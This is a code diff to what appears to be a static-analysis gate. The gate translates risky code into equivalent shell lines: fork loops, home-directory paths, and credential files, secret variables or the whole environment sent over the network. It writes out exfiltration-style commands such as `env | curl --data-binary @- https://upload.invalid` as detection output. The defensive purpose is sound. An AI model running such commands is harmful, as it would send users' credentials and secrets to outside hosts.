@@ -15,8 +15,8 @@
  *   `process.env.HOME`, `os.environ['HOME']`) is `~`;
  * - `os.fork()` (or `child_process.fork`) in code with a loop that need not end (`while`, `do`,
  *   `for (;;)`, `setInterval`, `iter(f, x)`, `itertools.count`/`repeat`/`cycle`) is a fork loop;
- * - a credential file or a secret environment variable in code that uses a network API is
- *   `curl -F f=@FILE …` or `printenv NAME | curl …`.
+ * - a credential file, a secret environment variable or the whole environment in code that uses a
+ *   network API is `curl -F f=@FILE …`, `curl --data-binary "$NAME" …` or `env | curl …`.
  *
  * Names, literal assignments, `import … as`, destructuring `require`, `getattr(X, 'name')`,
  * concatenation, f-strings and templates, `' '.join([...])`, `'…'.format(…)`, `'…' % …`,
@@ -202,7 +202,9 @@ class Reader {
     if (this.forks !== null && this.loops) this.findings.push({ kind: 'fork-loop', what: `${this.forks} in a loop` });
     if (this.network !== null) {
       if (this.credential !== null) this.findings.push({ kind: 'shell-text', text: `curl -F f=@${shellWord(this.credential)} https://upload.invalid`, approximate: false, what: `${this.network} with ${shellText(this.credential)}` });
-      if (this.secret !== null) this.findings.push({ kind: 'shell-text', text: `printenv ${this.secret} | curl --data-binary @- https://upload.invalid`, approximate: false, what: `${this.network} with $${this.secret}` });
+      // A secret variable in a request is what `curl -d "$NAME" …` is in a shell line: the arm decides
+      // (it lets a token through to the API it is for, as it does in shell text).
+      if (this.secret !== null) this.findings.push({ kind: 'shell-text', text: `curl --data-binary "$${this.secret}" https://upload.invalid`, approximate: false, what: `${this.network} with $${this.secret}` });
       if (this.allEnvironment) this.findings.push({ kind: 'shell-text', text: 'env | curl --data-binary @- https://upload.invalid', approximate: false, what: `${this.network} with the whole environment` });
     }
     if (!this.followed) this.findings.push(...allLiterals(this.tokens, 'a string in code the gate could not follow'));
